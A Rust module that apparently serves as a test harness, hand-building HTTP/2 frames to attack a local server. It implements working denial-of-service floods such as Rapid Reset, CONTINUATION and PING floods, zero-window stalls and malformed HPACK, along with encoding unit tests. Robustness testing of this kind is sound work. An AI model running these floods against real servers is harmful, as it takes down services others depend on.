//! Clients that break HTTP/2, by frames made by hand.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

use crate::process::TOKEN;
use crate::wire::{Protocol, open};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The number of frames of a flood that are written at once.
const FLOOD: u32 = 200;

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PUSH: u8 = 5;
const PING: u8 = 6;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flags of frames.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A way to harm a server.
#[derive(Debug, Clone, Copy)]
pub(super) enum Attack {
    /// Opens streams and resets them at once.
    RapidReset,
    /// Opens streams whose headers never end.
    Continuations,
    /// Sends settings without end.
    SettingsFlood,
    /// Sends pings without end, and reads no answer.
    PingFlood,
    /// Opens many streams, and never lets the server send.
    NoWindow,
    /// Lets the window overflow.
    WindowOverflow,
    /// Sends empty frames of data without end.
    EmptyData,
    /// Sends a header that is 60 KiB, many times.
    HugeHeaders,
    /// Refers to entries of the table of headers that do not exist.
    WrongTable,
    /// Sends frames of random types, flags and streams.
    RandomFrames,
    /// Sends a frame that is longer than allowed.
    HugeFrame,
}

impl Attack {
    pub(super) const ALL: [Self; 11] = [
        Self::RapidReset,
        Self::Continuations,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::NoWindow,
        Self::WindowOverflow,
        Self::EmptyData,
        Self::HugeHeaders,
        Self::WrongTable,
        Self::RandomFrames,
        Self::HugeFrame,
    ];

    /// Attacks once. The client ignores errors: the server may reject it.
    pub(super) async fn run(self, authority: &str, draws: &mut fastrand::Rng) -> io::Result<()> {
        let mut stream = open(authority, Protocol::Http2).await?;
        let settings = if matches!(self, Self::NoWindow) { &[0, 4, 0, 0, 0, 0][..] } else { &[] };
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
        for round in 0..1000 {
            stream.write_all(&self.frames(round, draws)).await?;
            stream.flush().await?;
            if matches!(self, Self::PingFlood | Self::NoWindow) {
                sleep(Duration::from_millis(1)).await;
                continue;
            }
            let mut buffer = vec![0; 16384];
            // The end of the connection is the answer that most of these deserve.
            if let Ok(read) = timeout(Duration::from_millis(5), stream.read(&mut buffer)).await
                && read? == 0
            {
                return Ok(());
            }
        }
        Ok(())
    }

    /// The frames of a round.
    fn frames(self, round: u32, draws: &mut fastrand::Rng) -> Vec<u8> {
        let many = |make: &dyn Fn(u32) -> Vec<u8>| (0..FLOOD).flat_map(make).collect::<Vec<u8>>();
        let stream = |number: u32| (round * FLOOD + number) * 2 + 1;
        let get = |stream: u32| frame(HEADERS, END_STREAM | END_HEADERS, stream, &request("GET"));
        match self {
            Self::RapidReset => {
                many(&|number| [get(stream(number)), frame(RESET, 0, stream(number), &[0, 0, 0, 8])].concat())
            }
            Self::Continuations if round == 0 => frame(HEADERS, 0, 1, &request("GET")),
            Self::Continuations => many(&|_| frame(CONTINUATION, 0, 1, &literal("x", &"y".repeat(100)))),
            Self::SettingsFlood => many(&|number| frame(SETTINGS, 0, 0, &setting(4, number + 1))),
            Self::PingFlood => many(&|_| frame(PING, 0, 0, &[7; 8])),
            Self::NoWindow => get(round * 2 + 1),
            Self::WindowOverflow => many(&|_| frame(WINDOW, 0, 0, &[0x7f, 0xff, 0xff, 0xff])),
            Self::EmptyData if round == 0 => frame(HEADERS, END_HEADERS, 1, &request("POST")),
            Self::EmptyData => many(&|_| frame(DATA, 0, 1, &[])),
            Self::HugeHeaders => huge_headers(round * 2 + 1),
            Self::WrongTable => {
                frame(HEADERS, END_STREAM | END_HEADERS, round * 2 + 1, &[0xff, 0xff, 0xff, 0x7f])
            }
            Self::RandomFrames => random_frames(draws),
            Self::HugeFrame => [&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1][..], &[0; 9000]].concat(),
        }
    }
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn setting(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

/// A header that is not indexed, in the encoding of HPACK.
fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0][..], &integer(name.len()), name.as_bytes(), &integer(value.len()), value.as_bytes()].concat()
}

/// The length of a string in HPACK: an integer with a prefix of seven bits.
fn integer(value: usize) -> Vec<u8> {
    let Some(mut rest) = value.checked_sub(127) else { return vec![value.to_le_bytes()[0]] };
    let mut bytes = vec![127];
    while rest >= 128 {
        bytes.push(rest.to_le_bytes()[0] | 128);
        rest >>= 7;
    }
    bytes.push(rest.to_le_bytes()[0]);
    bytes
}

/// The headers of a request by the administrator.
fn request(method: &str) -> Vec<u8> {
    [
        literal(":method", method),
        literal(":scheme", "https"),
        literal(":authority", "127.0.0.1"),
        literal(":path", "/api/v1/namespaces/default/configmaps"),
        literal("authorization", &format!("Bearer {TOKEN}")),
        literal("content-type", "application/json"),
    ]
    .concat()
}

/// A request with a header of 60 KiB, in as many frames as it needs.
fn huge_headers(stream: u32) -> Vec<u8> {
    let block = [request("GET"), literal("x-huge", &"y".repeat(60 << 10))].concat();
    let parts: Vec<&[u8]> = block.chunks(16_384).collect();
    let last = parts.len() - 1;
    let frames = parts.iter().enumerate().map(|(index, part)| {
        let flags = if index == last { END_HEADERS } else { 0 };
        match index {
            0 => frame(HEADERS, flags | END_STREAM, stream, part),
            _ => frame(CONTINUATION, flags, stream, part),
        }
    });
    frames.flatten().collect()
}

fn random_frames(draws: &mut fastrand::Rng) -> Vec<u8> {
    const KINDS: [u8; 10] =
        [DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, WINDOW, CONTINUATION, 0x42];
    let mut one = || {
        let payload: Vec<u8> = (0..draws.usize(..64)).map(|_| draws.u8(..)).collect();
        frame(KINDS[draws.usize(..KINDS.len())], draws.u8(..), draws.u32(..8), &payload)
    };
    (0..20).flat_map(|_| one()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_a_head_of_nine_bytes() {
        assert_eq!(frame(PING, 1, 258, &[9]), [0, 0, 1, 6, 1, 0, 0, 1, 2, 9]);
        assert_eq!(huge_headers(1)[..9], [0, 0x40, 0, HEADERS, END_STREAM, 0, 0, 0, 1]);
    }

    #[test]
    fn lengths_are_encoded_as_in_hpack() {
        assert_eq!(integer(10), [10]);
        assert_eq!(integer(127), [127, 0]);
        // 1337 is the example of RFC 7541, with a prefix of seven bits here.
        assert_eq!(integer(1337), [127, 0xba, 0x09]);
        assert_eq!(literal("a", "bc"), [0, 1, b'a', 2, b'b', b'c']);
    }
}
